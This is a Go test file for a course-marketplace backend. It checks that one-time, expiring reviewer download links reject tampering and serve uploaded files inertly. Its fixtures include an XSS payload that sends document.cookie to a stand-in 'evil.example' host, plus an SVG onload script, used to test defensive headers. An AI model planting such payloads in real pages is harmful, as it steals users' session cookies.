package api_test

import (
	"fmt"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/uuid"

	"github.com/course-marketplace/backend/api"
	"github.com/course-marketplace/backend/api/client"
	"github.com/course-marketplace/backend/internal/bundle"
	"github.com/course-marketplace/backend/worker/workertest"
)

const publicURL = "https://market.example"

// page is what runs in the browser of a reviewer who opens it carelessly.
const page = "<html><script>fetch('https://evil.example/?' + document.cookie)</script></html>"

// links asks for links to the files under review.
func (p *publishing) links(review uuid.UUID) client.GetReviewBundleResponse {
	p.t.Helper()
	a := p.want(p.send(http.MethodGet, reviewPath(review, "/bundle"), p.reviewer.Key, nil), http.StatusOK, "")
	return decode[client.GetReviewBundleResponse](p.t, a)
}

// follow asks for a link as anybody may: it carries its own credential.
func (p *publishing) follow(method, url string) answer {
	p.t.Helper()
	path, ok := strings.CutPrefix(url, publicURL)
	if !ok {
		p.t.Fatalf("the link leads to %s", url)
	}
	return p.send(method, path, "", nil)
}

func TestReviewLinksAreGoodForOneGet(t *testing.T) {
	t.Parallel()
	p := newPublishing(t)
	content := weather.with(files{"page.html": page, "références/é.svg": "<svg onload='alert(1)'/>", "empty.txt": ""})
	course, r := p.waiting(content)
	links := p.links(r.ID)
	if links.ReviewID != r.ID || links.CourseID != course || links.CourseVersionID != r.VersionID || len(links.Files) != len(content) {
		t.Errorf("%+v", links)
	}
	if left := time.Until(links.ExpiresAt); left < 14*time.Minute || left > 15*time.Minute {
		t.Errorf("the links work for %s", left)
	}
	for _, f := range links.Files {
		for _, method := range []string{http.MethodHead, http.MethodPost, http.MethodDelete} {
			if a := p.follow(method, f.URL); a.status != http.StatusMethodNotAllowed || a.header.Get("Allow") != "GET" {
				t.Errorf("%s answers %d, allows %s", method, a.status, a.header.Get("Allow"))
			}
		}
		a := p.want(p.follow(f.Method, f.URL), http.StatusOK, "")
		if string(a.body) != content[f.Path] || int64(len(a.body)) != f.SizeBytes {
			t.Errorf("%s holds %q", f.Path, a.body)
		}
		p.checkInert(a, f.Path)
		for range 2 {
			p.expect(p.follow(http.MethodGet, f.URL), http.StatusGone, "ticket_used")
		}
	}
}

// checkInert looks for what keeps a browser from running the file.
func (p *publishing) checkInert(a answer, path string) {
	p.t.Helper()
	for name, want := range map[string]string{
		"X-Content-Type-Options":       "nosniff",
		"Content-Security-Policy":      "default-src 'none'; sandbox",
		"Cross-Origin-Resource-Policy": "same-origin",
		"Referrer-Policy":              "no-referrer",
		"Cache-Control":                "no-store",
	} {
		if got := a.header.Get(name); got != want {
			p.t.Errorf("%s: %s is %q", path, name, got)
		}
	}
	if !strings.HasPrefix(a.header.Get("Content-Disposition"), "attachment; filename=") {
		p.t.Errorf("%s is shown: %s", path, a.header.Get("Content-Disposition"))
	}
	if active := strings.HasSuffix(path, ".html") || strings.HasSuffix(path, ".svg"); active && a.header.Get("Content-Type") != "application/octet-stream" {
		p.t.Errorf("%s is sent as %s", path, a.header.Get("Content-Type"))
	}
}

func TestRacingGetsOfOneLink(t *testing.T) {
	t.Parallel()
	p := newPublishing(t)
	_, r := p.waiting(weather)
	link := p.links(r.ID).Files[0].URL
	var mu sync.Mutex
	answers := map[int]int{}
	var racing sync.WaitGroup
	for range 20 {
		racing.Go(func() {
			a := p.follow(http.MethodGet, link)
			mu.Lock()
			defer mu.Unlock()
			answers[a.status]++
		})
	}
	racing.Wait()
	if answers[http.StatusOK] != 1 || answers[http.StatusGone] != 19 {
		t.Errorf("answered %v", answers)
	}
}

func TestTamperedLinksAreForbidden(t *testing.T) {
	t.Parallel()
	p := newPublishing(t)
	_, r := p.waiting(weather)
	link := p.links(r.ID).Files[0].URL
	token := link[strings.LastIndex(link, "/")+1:]
	swapped := "A" + token[1:]
	if token[0] == 'A' {
		swapped = "B" + token[1:]
	}
	for name, tampered := range map[string]string{
		"a letter":         swapped,
		"shortened":        token[:len(token)-1],
		"lengthened":       token + "A",
		"of another maker": bundle.NewTicket().Token,
		"no base64":        strings.Repeat("!", len(token)),
	} {
		a := p.follow(http.MethodGet, publicURL+"/files/"+tampered)
		if a.status != http.StatusForbidden || a.code() != "ticket_invalid" {
			t.Errorf("%s: answered %d %s", name, a.status, a.code())
		}
	}
	p.want(p.follow(http.MethodGet, link), http.StatusOK, "")
}

func TestExpiredLinksAreGone(t *testing.T) {
	t.Parallel()
	p := newPublishing(t, func(o *api.Options) { o.ReviewLinkLifetime = -time.Second })
	_, r := p.waiting(weather)
	p.expect(p.follow(http.MethodGet, p.links(r.ID).Files[0].URL), http.StatusGone, "ticket_expired")
}

// New links leave the old ones as they are, and end with the review: afterwards there
// are no new ones.
func TestLinksAreForReviewsThatWait(t *testing.T) {
	t.Parallel()
	p := newPublishing(t)
	_, r := p.waiting(weather)
	first, second := p.links(r.ID), p.links(r.ID)
	p.want(p.follow(http.MethodGet, first.Files[0].URL), http.StatusOK, "")
	p.want(p.follow(http.MethodGet, second.Files[0].URL), http.StatusOK, "")
	p.want(p.reject(p.reviewer.Key, r.ID, rejection), http.StatusOK, "")
	p.expect(p.send(http.MethodGet, reviewPath(r.ID, "/bundle"), p.reviewer.Key, nil), http.StatusConflict, "review_not_pending")
	p.expect(p.send(http.MethodGet, reviewPath(uuid.New(), "/bundle"), p.reviewer.Key, nil), http.StatusNotFound, "review_not_found")
}

// A file that storage has lost or changed is not delivered; where nothing was sent yet,
// the link still works once storage does.
func TestLinkSurvivesAnOutageOfStorage(t *testing.T) {
	t.Parallel()
	p := newPublishing(t)
	course, r := p.waiting(weather)
	f := p.links(r.ID).Files[0]
	key := bundle.FileKey(course, r.VersionID, f.Sha256)
	if err := p.storage.Delete(t.Context(), key); err != nil {
		t.Fatal(err)
	}
	p.expect(p.follow(http.MethodGet, f.URL), http.StatusNotFound, "bundle_file_not_found")
	restored := bundle.Object{Key: key, Body: strings.NewReader(weather[f.Path]), SizeBytes: f.SizeBytes}
	if err := p.storage.Put(t.Context(), restored); err != nil {
		t.Fatal(err)
	}
	p.want(p.follow(http.MethodGet, f.URL), http.StatusOK, "")
}

func TestChangedFileIsNotDeliveredWhole(t *testing.T) {
	t.Parallel()
	p := newPublishing(t)
	course, r := p.waiting(weather)
	f := p.links(r.ID).Files[0]
	changed := bundle.Object{Key: bundle.FileKey(course, r.VersionID, f.Sha256), Body: strings.NewReader(strings.Repeat("x", int(f.SizeBytes))), SizeBytes: f.SizeBytes}
	if err := p.storage.Put(t.Context(), changed); err != nil {
		t.Fatal(err)
	}
	response, err := http.Get(p.url + strings.TrimPrefix(f.URL, publicURL))
	if err == nil {
		read := make([]byte, f.SizeBytes)
		var n int
		for err == nil {
			var more int
			more, err = response.Body.Read(read[n:])
			n += more
		}
		_ = response.Body.Close()
		if int64(n) >= f.SizeBytes {
			t.Errorf("%d bytes of a changed file were delivered", n)
		}
	}
	workertest.Eventually(t, func() error {
		if !strings.Contains(p.log.String(), "file not delivered in full") {
			return fmt.Errorf("the log says nothing of it")
		}
		return nil
	})
}
